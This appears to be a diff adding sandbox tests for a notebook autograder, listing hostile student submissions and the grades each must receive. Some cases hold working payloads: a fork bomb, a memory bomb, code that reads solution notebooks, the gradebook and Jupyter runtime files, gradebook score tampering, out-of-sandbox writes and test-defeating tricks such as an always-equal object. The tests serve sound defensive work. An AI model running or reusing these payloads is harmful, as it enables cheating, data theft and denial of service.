@@ -1,0 +1,164 @@
+"""Broken and hostile submissions of lesson 1, each with the grade it must get.
+
+Every case edits the solution notebook (or the released one) and says what grading must give:
+the points per exercise, the status, and for attacks what must *not* have happened.
+"""
+
+from __future__ import annotations
+
+import json
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Callable
+
+import nbformat
+
+LESSON = "01-dataparallel"
+POINTS = {"split_sizes_tests": 2, "device_samples_tests": 2, "dp_gradients_tests": 3,
+          "device0_extra_tests": 3, "portable_checkpoint_tests": 3, "quiz_tests": 2}
+FULL = POINTS
+ZERO = dict.fromkeys(POINTS, 0)
+
+
+@dataclass
+class Case:
+    name: str
+    write: Callable[[Path, Path, dict], None]  # (submission folder, repo, context) -> files written
+    points: dict
+    status: str = "graded"  # the status must start with this
+    canaries: list[str] = field(default_factory=list)  # paths that must not exist after grading
+
+
+def _cell(nb, grade_id):
+    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
+
+
+def _solution(repo):
+    return nbformat.read(repo / "solutions" / LESSON / f"{LESSON}.ipynb", as_version=4)
+
+
+def _released(repo):
+    return nbformat.read(repo / "notebooks" / LESSON / f"{LESSON}.ipynb", as_version=4)
+
+
+def _save(nb, folder, name=f"{LESSON}.ipynb"):
+    nbformat.write(nb, folder / name)
+
+
+def edit(cell_id, prefix="", replace=None, base=_solution):
+    """A case that prepends code to (or replaces) one cell of the solution."""
+    def write(folder, repo, ctx):
+        nb = base(repo)
+        cell = _cell(nb, cell_id)
+        cell.source = replace.format(**ctx) if replace is not None else prefix.format(**ctx) + cell.source
+        _save(nb, folder)
+    return write
+
+
+def notebook(change, base=_solution):
+    def write(folder, repo, ctx):
+        nb = base(repo)
+        change(nb, ctx)
+        _save(nb, folder)
+    return write
+
+
+def _delete_test(nb, ctx):
+    nb.cells.remove(_cell(nb, "quiz_tests"))
+
+
+def _empty_tests(nb, ctx):
+    for c in nb.cells:
+        if c.metadata.get("nbgrader", {}).get("grade"):
+            c.source = "pass"
+
+
+def _retype_tests(nb, ctx):
+    for i, c in enumerate(nb.cells):
+        if c.metadata.get("nbgrader", {}).get("grade"):
+            nb.cells[i] = nbformat.v4.new_markdown_cell(c.source, metadata=c.metadata, id=c.id)
+
+
+def _inflate_points(nb, ctx):
+    for c in nb.cells:
+        if c.metadata.get("nbgrader", {}).get("grade"):
+            c.metadata["nbgrader"]["points"] = 100
+
+
+def _strip_metadata(nb, ctx):
+    for c in nb.cells:
+        c.metadata.pop("nbgrader", None)
+
+
+def _renamed(folder, repo, ctx):
+    _save(_solution(repo), folder, "my-lesson-1.ipynb")
+
+
+def _missing(folder, repo, ctx):
+    (folder / "notes.txt").write_text("I forgot the notebook")
+
+
+def _corrupt(folder, repo, ctx):
+    text = json.dumps(nbformat.writes(_solution(repo)))
+    (folder / f"{LESSON}.ipynb").write_text(text[: len(text) // 2])
+
+
+STEAL = '''import glob, sqlite3
+for _pattern in ["{repo}/solutions/*/*.ipynb", "{root}/solutions/*/*.ipynb", "{root}/submitted/*/*/*.ipynb",
+                 "{root}/gradebook.db", "/root/.local/share/jupyter/runtime/*.json"]:
+    for _path in glob.glob(_pattern):
+        try:
+            print("STOLEN", _path, open(_path, errors="replace").read()[:20000])
+        except OSError as _error:
+            print("blocked", _error)
+'''
+
+WRITE_OUTSIDE = '''for _path in ["{repo}/pwned.txt", "{root}/pwned.txt", "{host_tmp}/pwned.txt", "/tmp/../{host_tmp_name}/pwned2.txt"]:
+    try:
+        open(_path, "w").write("owned")
+    except OSError as _error:
+        print("blocked", _error)
+try:
+    _db = sqlite3.connect("{root}/gradebook.db")
+    _db.execute("UPDATE grade SET manual_score = 999")
+    _db.commit()
+except Exception as _error:
+    print("blocked", _error)
+'''
+
+NETWORK = '''import socket
+try:
+    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"leak")
+    print("CONNECTED")
+except OSError as _error:
+    print("blocked", _error)
+'''
+
+CASES = [
+    Case("syntax_error", edit("device_samples", replace="def device_samples(batch_size, n_devices, device:\n    return []\n"),
+         {**FULL, "device_samples_tests": 0}),
+    Case("infinite_loop", edit("split_sizes", "while True:\n    pass\n"), {**FULL, "split_sizes_tests": 0}),
+    Case("memory_bomb", edit("dp_gradients", "_hog = bytearray(64 * 2**30)\n"), {**FULL, "dp_gradients_tests": 0}),
+    Case("fork_bomb", edit("device0_extra", "import os\nwhile True:\n    os.fork()\n"), {**FULL, "device0_extra_tests": 0},
+         status="graded (cell"),
+    Case("os_exit", edit("device_samples", "import os\nos._exit(3)\n"), {**FULL, "device_samples_tests": 0},
+         status="graded (cell"),
+    Case("deleted_test_cell", notebook(_delete_test), FULL),
+    Case("emptied_test_cells", notebook(_empty_tests, base=_released), ZERO),
+    Case("retyped_test_cells", notebook(_retype_tests, base=_released), ZERO),
+    Case("inflated_points", notebook(_inflate_points), FULL),
+    Case("stripped_metadata", notebook(_strip_metadata), FULL),
+    Case("renamed_notebook", _renamed, FULL),
+    Case("missing_notebook", _missing, ZERO, status="not graded: no notebook"),
+    Case("corrupt_notebook", _corrupt, ZERO, status="not graded: the notebook cannot be read"),
+    Case("wrong_types", edit("split_sizes", replace="def my_split_sizes(batch_size, n_devices):\n"
+                                                    "    import torch\n    return tuple(len(c) for c in torch.arange(batch_size).chunk(n_devices))\n"),
+         {**FULL, "split_sizes_tests": 0}),
+    Case("always_equal", edit("split_sizes", replace="class Anything(list):\n    def __eq__(self, other):\n        return True\n"
+                                                     "def my_split_sizes(batch_size, n_devices):\n    return Anything()\n"),
+         {**FULL, "split_sizes_tests": 0}),
+    Case("reads_solutions_and_gradebook", edit("quiz", STEAL), FULL),
+    Case("writes_outside_and_gradebook", edit("quiz", "import sqlite3\n" + WRITE_OUTSIDE), FULL,
+         canaries=["{repo}/pwned.txt", "{root}/pwned.txt", "{host_tmp}/pwned.txt", "{host_tmp}/pwned2.txt"]),
+    Case("opens_a_socket", edit("quiz", NETWORK), FULL),
+]
